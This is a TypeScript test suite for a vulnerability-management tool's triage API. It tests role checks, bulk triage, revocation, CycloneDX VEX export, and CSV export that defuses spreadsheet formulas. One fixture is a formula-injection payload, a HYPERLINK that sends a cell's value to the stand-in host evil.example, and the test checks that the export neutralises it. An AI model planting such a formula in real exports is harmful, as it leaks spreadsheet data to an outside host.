/**
 * /api/v1/triage through the real app on every dialect: viewers (session and token) are refused, analysts triage one
 * scope or findings in bulk (atomic), revoke; findings carry their triage and filter on it; alerts and the digest
 * leave triaged findings out; the findings CSV quotes per RFC 4180 and defuses formulas; the VEX export's shape.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { LightMyRequestResponse } from 'fastify';
import type { AuditEntry } from '../../../common/api/auth.js';
import type { Finding } from '../../../common/api/findings.js';
import type { TriageDecision } from '../../../common/api/triage.js';
import { startTestServer, type TestServer } from '../../../test/helpers/app.js';
import { dialectSkip, testDialects } from '../../../test/helpers/db.js';
import { openFindingHits } from '../../alerts/rules/findings.js';
import { buildDigestData } from '../../alerts/digest/data.js';
import { createToken } from '../../db/repositories/tokens.js';
import { createUser } from '../../db/repositories/users.js';

const PASSWORD = 'correct horse battery staple';
const T0 = '2026-11-29T08:00:00.000Z';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const QUOTED = 'tool, "pro"\r\nedition';

interface Session { cookie: string; csrf: string }
interface Write { items: TriageDecision[]; applied: number }
interface FindingsPage { items: Finding[]; nextCursor: string | null }

function sessionFrom(res: LightMyRequestResponse): Session {
  const cookies = res.cookies as { name: string; value: string }[];
  const s = cookies.find((c) => c.name === 'vigie_session')!;
  const c = cookies.find((c) => c.name === 'vigie_csrf')!;
  return { cookie: `vigie_session=${s.value}; vigie_csrf=${c.value}`, csrf: c.value };
}

/** RFC 4180 reader, strict enough to catch a quoting mistake (a stray quote throws). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i += 2; continue; }
      if (ch === '"') { quoted = false; i++; if (i < text.length && !/[,\r]/.test(text[i]!)) throw new Error(`text after a closing quote at ${i}`); continue; }
      cell += ch; i++; continue;
    }
    if (ch === '"') { if (cell) throw new Error(`quote inside an unquoted field at ${i}`); quoted = true; i++; continue; }
    if (ch === ',') { row.push(cell); cell = ''; i++; continue; }
    if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 2; continue; }
    if (ch === '\n' || ch === '\r') throw new Error(`bare line break at ${i}`);
    cell += ch; i++;
  }
  if (cell || row.length) throw new Error('last record lacks its CRLF');
  return rows;
}

for (const dialect of testDialects()) {
  describe(`triage API on ${dialect}`, { skip: await dialectSkip(dialect) }, () => {
    let s: TestServer;
    let viewerToken: string;
    let ana: Session;
    let vic: Session;
    const ids = { web1: 0, web2: 0, f1: 0, f2: 0, f3: 0, fFormula: 0 };
    const login = async (username: string) =>
      sessionFrom(await s.app.inject({ method: 'POST', url: '/api/v1/auth/login', headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ username, password: PASSWORD }) }));
    const as = async <T>(who: Session | string, method: 'GET' | 'POST' | 'DELETE', url: string, body?: unknown) => {
      const auth = typeof who === 'string' ? { authorization: `Bearer ${who}` } : { cookie: who.cookie, 'x-csrf-token': who.csrf };
      const res = await s.app.inject({ method, url: `/api/v1${url}`, headers: { ...auth, ...(body ? { 'content-type': 'application/json' } : {}) }, ...(body ? { payload: JSON.stringify(body) } : {}) });
      return { status: res.statusCode, body: (res.headers['content-type']?.toString().includes('json') ? res.json() : res.body) as T, res };
    };
    const findings = async (q = '') => (await s.api<FindingsPage>(`/findings?limit=100${q}`)).body.items;

    before(async () => {
      s = await startTestServer(dialect);
      const k = s.tdb.db.kysely;
      await createUser(k, { username: 'ana', password: PASSWORD, role: 'analyst' });
      await createUser(k, { username: 'vic', password: PASSWORD, role: 'viewer' });
      viewerToken = (await createToken(k, 'grafana', 'viewer')).token;
      ana = await login('ana');
      vic = await login('vic');
      for (const [id, severity] of [['CVE-2024-0727', 'critical'], ['CVE-2023-5678', 'high']] as const) {
        await k.insertInto('vulnerabilities').values({ id, title: `${id} title`, severity, cvss_score: 9.1, kev: 1, withdrawn: 0, data: '{}', updated_at: T0 }).execute();
      }
      const asset = async (hostname: string) =>
        Number((await k.insertInto('assets').values({ hostname, kind: 'computer', source_format: 'test', status: 'active', software_count: 0, first_seen_at: T0, last_seen_at: T0, updated_at: T0 }).returning('id').executeTakeFirstOrThrow()).id);
      ids.web1 = await asset('web1');
      ids.web2 = await asset('@web2');
      const finding = async (assetId: number, vuln: string, name: string, version: string) =>
        Number((await k.insertInto('findings').values({
          asset_id: assetId, vulnerability_id: vuln, software_name: name, software_version: version, software_origin: 'deb', matcher: 'distro', confidence: 1,
          fixed_version: '3.0.13-1~deb12u1', status: 'open', evidence: '{}', first_seen_at: T0, last_seen_at: T0, resolved_at: null,
        }).returning('id').executeTakeFirstOrThrow()).id);
      ids.f1 = await finding(ids.web1, 'CVE-2024-0727', 'libssl3', '3.0.11-1~deb12u2');
      ids.f2 = await finding(ids.web2, 'CVE-2024-0727', 'libssl3', '3.0.11-1~deb12u2');
      ids.f3 = await finding(ids.web1, 'CVE-2023-5678', QUOTED, '-1+2');
      ids.fFormula = await finding(ids.web2, 'CVE-2023-5678', FORMULA, '1.0');
    });
    after(async () => s?.close());

    test('a viewer cannot triage: 403 with a session and with a token, nothing written; reading is allowed', async () => {
      const body = { vulnerabilityId: 'CVE-2024-0727', decision: 'false_positive', justification: 'not used' };
      for (const who of [vic, viewerToken]) {
        assert.equal((await as(who, 'POST', '/triage', body)).status, 403);
        assert.equal((await as(who, 'POST', '/triage/bulk', { findingIds: [ids.f1], decision: 'mitigated', justification: 'x' })).status, 403);
        assert.equal((await as(who, 'DELETE', '/triage/1')).status, 403);
        assert.equal((await as(who, 'GET', '/triage')).status, 200);
        assert.equal((await as(who, 'GET', '/triage/vex')).status, 200);
      }
      assert.equal((await s.tdb.db.kysely.selectFrom('triage_decisions').select('id').execute()).length, 0);
    });

    test('invalid decisions are refused with the reason', async () => {
      const base = { vulnerabilityId: 'CVE-2024-0727', decision: 'false_positive', justification: 'not used' };
      const bad = async (body: unknown, status = 400) => {
        const r = await as<{ error: { message: string } }>(ana, 'POST', '/triage', body);
        assert.equal(r.status, status, JSON.stringify(r.body));
        return r.body.error.message;
      };
      assert.match(await bad({ ...base, justification: '  ' }), /justification/);
      assert.match(await bad({ ...base, decision: 'ignore' }), /decision/);
      assert.match(await bad({ ...base, scope: { versionFrom: '1.0' } }), /softwareName/);
      assert.match(await bad({ ...base, expiresAt: '2020-01-01T00:00:00Z' }), /expiresAt/);
      assert.match(await bad({ ...base, vulnerabilityId: 'CVE-1999-0001' }, 404), /CVE-1999-0001/);
      assert.match(await bad({ ...base, scope: { assetId: 999999 } }, 404), /asset 999999/);
      assert.equal((await s.tdb.db.kysely.selectFrom('triage_decisions').select('id').execute()).length, 0);
    });

    test('an analyst triages a CVE on all assets; findings carry it, "to do" lists, alerts and the digest leave it out', async () => {
      const r = await as<Write>(ana, 'POST', '/triage', { vulnerabilityId: 'cve-2024-0727', decision: 'accepted_risk', justification: 'isolated VLAN, replacement planned', expiresAt: '2099-01-01T00:00:00+01:00' });
      assert.equal(r.status, 200, JSON.stringify(r.body));
      const d = r.body.items[0]!;
      assert.deepEqual([d.vulnerabilityId, d.decision, d.author, d.state, d.findings, d.expiresAt, d.scope.assetId], ['CVE-2024-0727', 'accepted_risk', 'ana', 'live', 2, '2098-12-31T23:00:00.000Z', null]);
      assert.equal(r.body.applied, 2);
      const all = await findings();
      const f1 = all.find((f) => f.id === ids.f1)!;
      assert.deepEqual(f1.triage && [f1.triage.id, f1.triage.decision, f1.triage.justification, f1.triage.author, f1.triage.scope.assetId], [d.id, 'accepted_risk', 'isolated VLAN, replacement planned', 'ana', null]);
      assert.equal(all.find((f) => f.id === ids.f3)!.triage, null);
      assert.deepEqual((await findings('&triage=untriaged')).map((f) => f.id).sort(), [ids.f3, ids.fFormula].sort());
      assert.deepEqual((await findings('&triage=triaged')).map((f) => f.id).sort(), [ids.f1, ids.f2].sort());
      assert.deepEqual((await findings('&triage=accepted_risk&status=open')).length, 2);
      assert.deepEqual((await findings('&triage=mitigated')).length, 0);
      assert.equal((await s.api<FindingsPage>(`/assets/${ids.web1}/findings?triage=untriaged`)).body.items.length, 1);
      const hits = await openFindingHits(s.tdb.db, (eb) => eb('v.kev', '=', 1), 'KEV');
      assert.deepEqual(hits.map((h) => h.vulnerabilityId), ['CVE-2023-5678', 'CVE-2023-5678'], 'no alert for the triaged CVE');
      const digest = await buildDigestData(s.tdb.db, { periodKey: 'p', start: new Date('2026-11-28T00:00:00Z'), end: new Date('2026-11-30T00:00:00Z'), timezone: 'UTC', lang: 'en', staleAfterDays: 7, kbStaleHours: 48, topN: 5 });
      assert.equal(digest.vulns.openFindings, 2);
      assert.deepEqual(digest.vulns.newCves.map((c) => c.id), ['CVE-2023-5678']);
      // The audit log names the decision.
      const audit = await as<{ items: AuditEntry[] }>(s.token, 'GET', '/audit?limit=10');
      const entry = audit.body.items.find((e) => e.action === 'POST /triage')!;
      assert.equal(entry.actor, 'ana');
      assert.deepEqual((entry.details.decisions as { id: number; vulnerabilityId: string }[]).map((x) => [x.id, x.vulnerabilityId]), [[d.id, 'CVE-2024-0727']]);
    });

    test('bulk: one asset-scoped decision per finding, all or none; revoke falls back', async () => {
      const missing = await as<{ error: { message: string } }>(ana, 'POST', '/triage/bulk', { findingIds: [ids.f1, 987654], decision: 'false_positive', justification: 'wrong package' });
      assert.equal(missing.status, 404);
      assert.match(missing.body.error.message, /987654.*nothing was triaged/);
      assert.equal((await as<{ items: unknown[] }>(ana, 'GET', '/triage?state=all')).body.items.length, 1, 'only the earlier decision');
      const r = await as<Write>(ana, 'POST', '/triage/bulk', { findingIds: [ids.f1, ids.f3, ids.f1], decision: 'false_positive', justification: 'wrong package' });
      assert.equal(r.status, 200, JSON.stringify(r.body));
      assert.deepEqual(r.body.items.map((d) => [d.scope.assetId, d.vulnerabilityId, d.scope.softwareName, d.decision, d.findings]).sort(), [
        [ids.web1, 'CVE-2023-5678', QUOTED, 'false_positive', 1],
        [ids.web1, 'CVE-2024-0727', 'libssl3', 'false_positive', 1],
      ].sort());
      assert.equal(r.body.applied, 2);
      const f1 = (await findings()).find((f) => f.id === ids.f1)!;
      assert.equal(f1.triage?.decision, 'false_positive', 'the asset decision outranks the all-assets one');
      const audit = await as<{ items: AuditEntry[] }>(s.token, 'GET', '/audit?limit=10');
      assert.equal((audit.body.items.find((e) => e.action === 'POST /triage/bulk')!.details.decisions as unknown[]).length, 2);
      // Revoke the asset decision on f1: the all-assets accepted risk governs it again.
      const own = r.body.items.find((d) => d.scope.softwareName === 'libssl3')!;
      const del = await as<Write>(ana, 'DELETE', `/triage/${own.id}`);
      assert.equal(del.status, 200);
      assert.deepEqual([del.body.items[0]!.state, del.body.items[0]!.revokedBy, del.body.applied], ['revoked', 'ana', 1]);
      assert.equal((await findings()).find((f) => f.id === ids.f1)!.triage?.decision, 'accepted_risk');
      assert.equal((await as(ana, 'DELETE', `/triage/${own.id}`)).status, 200, 'revoking twice is harmless');
      assert.equal((await as(ana, 'DELETE', '/triage/999999')).status, 404);
      const lists = await as<{ items: TriageDecision[] }>(vic, 'GET', '/triage?state=revoked');
      assert.deepEqual(lists.body.items.map((d) => d.id), [own.id]);
      assert.deepEqual((await as<{ items: TriageDecision[] }>(vic, 'GET', `/triage?assetId=${ids.web1}`)).body.items.map((d) => d.scope.softwareName), [QUOTED]);
    });

    test('findings CSV: RFC 4180 quoting, formulas defused, same filters as /findings', async () => {
      const r = await as<string>(vic, 'GET', '/findings.csv');
      assert.equal(r.status, 200);
      assert.match(String(r.res.headers['content-type']), /^text\/csv; charset=utf-8/);
      assert.match(String(r.res.headers['content-disposition']), /attachment; filename="vigie-findings.csv"/);
      const rows = parseCsv(r.body);
      const head = rows[0]!;
      assert.deepEqual(head.slice(0, 3), ['finding_id', 'cve', 'severity']);
      const col = (row: string[], name: string) => row[head.indexOf(name)];
      assert.equal(rows.length, 5);
      const byId = new Map(rows.slice(1).map((row) => [Number(col(row, 'finding_id')), row]));
      const quoted = byId.get(ids.f3)!;
      assert.equal(col(quoted, 'software'), QUOTED, 'commas, quotes and CRLF survive inside quotes');
      assert.equal(col(quoted, 'version'), "'-1+2", 'a cell starting with - is defused');
      assert.equal(col(quoted, 'triage'), 'false_positive');
      const formula = byId.get(ids.fFormula)!;
      assert.equal(col(formula, 'software'), `'${FORMULA}`);
      assert.equal(col(formula, 'hostname'), "'@web2");
      assert.equal(col(formula, 'triage'), '');
      assert.equal(col(byId.get(ids.f1)!, 'triage'), 'accepted_risk');
      assert.equal(col(byId.get(ids.f1)!, 'kev'), 'true');
      for (const row of rows.slice(1)) for (const c of row) assert.doesNotMatch(c, /^[=+\-@]/, 'no cell starts a formula');
      const untriaged = parseCsv((await as<string>(vic, 'GET', '/findings.csv?triage=untriaged')).body);
      assert.deepEqual(untriaged.slice(1).map((row) => Number(row[0])), [ids.fFormula]);
      assert.equal((await as(vic, 'GET', '/findings.csv?severity=bogus')).status, 400);
    });

    test('VEX export: CycloneDX 1.5 with analysis state, justification, detail and affects', async () => {
      await as<Write>(ana, 'POST', '/triage', { vulnerabilityId: 'CVE-2023-5678', decision: 'mitigated', justification: 'WAF rule 942100 blocks it', scope: { assetId: ids.web2 } });
      const r = await as<{
        bomFormat: string; specVersion: string; serialNumber: string; version: number; metadata: { tools: { components: { name: string }[] } };
        components: { 'bom-ref': string; name: string; components: { 'bom-ref': string; name: string; version?: string }[] }[];
        vulnerabilities: { 'bom-ref': string; id: string; source?: { url: string }; analysis: { state: string; justification?: string; response?: string[]; detail: string }; affects: { ref: string; versions?: { version?: string; status: string }[] }[]; properties: { name: string; value: string }[] }[];
      }>(vic, 'GET', '/triage/vex');
      assert.equal(r.status, 200);
      assert.match(String(r.res.headers['content-type']), /^application\/vnd\.cyclonedx\+json/);
      const v = r.body;
      assert.deepEqual([v.bomFormat, v.specVersion, v.version], ['CycloneDX', '1.5', 1]);
      assert.match(v.serialNumber, /^urn:uuid:[0-9a-f-]{36}$/);
      assert.equal(v.metadata.tools.components[0]!.name, 'Vigie');
      const refs = new Set(v.components.flatMap((c) => [c['bom-ref'], ...c.components.map((x) => x['bom-ref'])]));
      assert.equal(refs.size, v.components.length + v.components.reduce((n, c) => n + c.components.length, 0), 'bom-refs are unique');
      const byDecision = new Map(v.vulnerabilities.map((x) => [x.properties.find((p) => p.name === 'vigie:decision')!.value, x]));
      assert.deepEqual([...byDecision.keys()].sort(), ['accepted_risk', 'false_positive', 'mitigated'], 'live decisions only (the revoked one is gone)');
      const risk = byDecision.get('accepted_risk')!;
      assert.deepEqual([risk.id, risk.analysis.state, risk.analysis.response, risk.analysis.detail], ['CVE-2024-0727', 'exploitable', ['will_not_fix'], 'isolated VLAN, replacement planned']);
      assert.equal(risk.source?.url, 'https://nvd.nist.gov/vuln/detail/CVE-2024-0727');
      assert.deepEqual(risk.affects.map((a) => a.versions?.[0]), [{ version: '3.0.11-1~deb12u2', status: 'affected' }, { version: '3.0.11-1~deb12u2', status: 'affected' }]);
      const mitigated = byDecision.get('mitigated')!;
      assert.deepEqual([mitigated.analysis.state, mitigated.analysis.justification, mitigated.analysis.detail], ['not_affected', 'protected_by_mitigating_control', 'WAF rule 942100 blocks it']);
      assert.equal(mitigated.affects.length, 1);
      assert.equal(mitigated.affects[0]!.versions?.[0]?.status, 'unaffected');
      assert.equal(byDecision.get('false_positive')!.analysis.state, 'false_positive');
      for (const x of v.vulnerabilities) for (const a of x.affects) assert.ok(refs.has(a.ref), `affects ${a.ref} names a component`);
      const formulaComponent = v.components.flatMap((c) => c.components).find((c) => c.name === FORMULA);
      assert.ok(formulaComponent, 'software names are kept as data');
    });
  });
}
